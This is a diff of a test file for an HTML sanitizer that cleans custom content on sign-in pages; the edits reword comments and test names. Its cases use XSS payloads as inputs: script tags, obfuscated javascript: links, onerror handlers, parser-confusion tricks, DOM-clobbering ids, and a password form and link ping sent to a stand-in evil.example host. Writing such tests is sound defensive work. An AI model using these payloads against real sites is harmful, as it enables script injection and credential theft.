@@ -21,7 +21,7 @@ describe('the HTML of an operator', () => {
   })
 
   it.each([
-    // What runs.
+    // Code.
     { html: 'a<script>alert(1)</script>b', safe: 'ab' },
     { html: 'a<ScRiPt src=//evil.example></sCrIpT >b', safe: 'ab' },
     { html: '<script>alert(1)', safe: '' },
@@ -34,7 +34,7 @@ describe('the HTML of an operator', () => {
     { html: '<svg/><b>x</b>', safe: '<b>x</b>' },
     { html: '<math><mi xlink:href="javascript:alert(1)">x</mi></math>y', safe: 'y' },
     { html: '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></math>y', safe: 'y' },
-    // What leads to what runs.
+    // Links to code.
     { html: '<a href="javascript:alert(1)">x</a>', safe: '<a>x</a>' },
     { html: '<a href=" &#106;avascript:alert(1)">x</a>', safe: '<a>x</a>' },
     { html: '<a href="java\tscript:alert(1)">x</a>', safe: '<a>x</a>' },
@@ -48,7 +48,7 @@ describe('the HTML of an operator', () => {
     { html: '<img src="data:text/html,x">', safe: '<img>' },
     { html: '<img srcset="https://a.example/1.png 1x, javascript:alert(1) 2x">', safe: '<img>' },
     { html: '<img src="http://a.example/1.png">', safe: '<img>' },
-    // What frames, sends, styles, or changes the page around it.
+    // Frames, forms, styles, and elements that change the page around them.
     { html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>x', safe: 'x' },
     { html: '<object data=x><p>fallback</p></object><embed src=x>y', safe: 'y' },
     { html: '<form action=//evil.example><input name=password><button>Go</button></form>', safe: 'Go' },
@@ -61,7 +61,7 @@ describe('the HTML of an operator', () => {
     { html: '<html><head><title>x</title></head><body onload=alert(1)><main>y</main></body>', safe: 'y' },
     { html: '<textarea><script>alert(1)</script></textarea><select><option>x</select>y', safe: 'y' },
     { html: '<template><img src=x onerror=alert(1)></template>y', safe: 'y' },
-    // What is read otherwise elsewhere.
+    // What other parsers read in another way.
     { html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', safe: '<img>"&gt;' },
     { html: '<!--><img src=x onerror=alert(1)>-->', safe: '<img>--&gt;' },
     { html: 'a<!-- <b>c</b> --><!doctype html><![CDATA[d]]>e', safe: 'ae' },
@@ -74,17 +74,17 @@ describe('the HTML of an operator', () => {
     { html: '<b title=\'"onclick="alert(1)\'>x</b>', safe: '<b title="&quot;onclick=&quot;alert(1)">x</b>' },
     { html: '&lt;script&gt;alert(1)&lt;/script&gt;', safe: '&lt;script&gt;alert(1)&lt;/script&gt;' },
     { html: '1 < 2 <3', safe: '1 &lt; 2 &lt;3' },
-    // What would reach out of its place.
+    // What would leave its place.
     { html: '</div></div></main><p>x', safe: '<p>x' },
     { html: '<div><b>x', safe: '<div><b>x</b></div>' },
     { html: 'x<img src=x onerror=alert(1)', safe: 'x' },
     { html: '<p>one<p>two', safe: '<p>one<p>two' },
     { html: '<b>x<i>y</b>z</i>', safe: '<b>x<i>y</i></b>z' },
     { html: '<svg><b>x', safe: '' },
-    // What would take the name of something of ours.
+    // What would take the name of an element of ours.
     { html: '<p id=boot name=app>x</p>', safe: '<p id="custom-boot">x</p>' },
     { html: '<a href="#app" name=app>x</a>', safe: '<a href="#custom-app">x</a>' },
-    // What would take the visitor away.
+    // What would lead the user away.
     {
       html: '<a href="https://www.example.com" target=_top rel=opener ping=//evil.example>x</a>',
       safe: '<a href="https://www.example.com" target="_blank" rel="noopener">x</a>',
@@ -105,7 +105,7 @@ describe('the HTML of an operator', () => {
     expect(await safeHtml(html)).toBe(html)
   })
 
-  it('stops nobody where the parser gives up', async () => {
+  it('does not prevent sign-in where the parser gives up', async () => {
     const customContent = { '/sign-in': '<b>'.repeat(65_536 / 3), '/register': '<b>x</b>' }
     const safe = await withSafeContent({ ...DEFAULT_EXPERIENCE, ...computed, customContent })
     expect(safe.customContent).toEqual({ '/sign-in': '', '/register': '<b>x</b>' })
@@ -114,7 +114,7 @@ describe('the HTML of an operator', () => {
 
 const computed = { socialConnectors: [], forgotPassword: { email: false, phone: false } }
 
-describe('what visitors get', () => {
+describe('what users get', () => {
   const hostile = '<p id="boot">Hello</p><script>alert(1)</script><img src=x onerror=alert(1)>'
 
   it('is the same in the page, in its boot data and from the API, and never what is stored', async () => {
